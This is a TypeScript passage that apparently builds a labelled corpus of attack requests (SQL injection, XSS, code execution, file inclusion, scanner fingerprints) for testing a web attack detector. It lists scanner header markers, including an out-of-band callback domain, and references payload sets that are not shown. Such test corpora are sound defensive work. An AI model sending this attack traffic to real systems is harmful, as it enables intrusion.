    sink.add('web.scanner', inHeader(rng, 'user-agent', ua), { tags: ['header:user-agent'] });
  });
  const markers: [string, string][] = [['acunetix-product', 'WVS/14.0 (Acunetix Web Vulnerability Scanner - NORMAL)'], ['x-scanner', 'Netsparker'], ['x-wipp', 'AbCdEf'], ['x-burp-collaborator', 'x7qk2p.oastify.example']];
  for (const [h, v] of markers) sink.add('web.scanner', inHeader(rng, h, v), { tags: [`header:${h}`] });
}

export function web(sink: Sink): void {
  emit(sink, 'web.sqli.query', 'query', SQLI);
  emitHeaders(sink, 'web.sqli.header', SQLI_HEADER);
  emit(sink, 'web.sqli.json_field', 'json_field', SQLI_JSON);
  emit(sink, 'web.xss.query', 'query', XSS);
  emitHeaders(sink, 'web.xss.header', XSS_HEADER);
  emit(sink, 'web.xss.json_field', 'json_field', XSS_JSON);
  emit(sink, 'web.rce.query', 'query', RCE);
  emitHeaders(sink, 'web.rce.header', RCE_HEADER);
  emit(sink, 'web.rce.json_field', 'json_field', RCE_JSON);
  emit(sink, 'web.lfi.query', 'query', LFI);
  {
    const rng = new Rng('web.lfi.path');
    for (const l of LFI_PATHS) {
      const req = baseRequest(rng, { v1: false });
      req.path = l.path;
      sink.add('web.lfi.path', req, { note: l.note, tags: ['path'] });
    }
  }
  emit(sink, 'web.lfi.json_field', 'json_field', LFI_JSON);
  emitWhere(sink, 'web.rfi', RFI);
  emitWhere(sink, 'web.php', PHP);
  emitWhere(sink, 'web.java', JAVA);
  emitWhere(sink, 'web.nodejs', NODEJS);
  protocol(sink);
  scanners(sink);
}
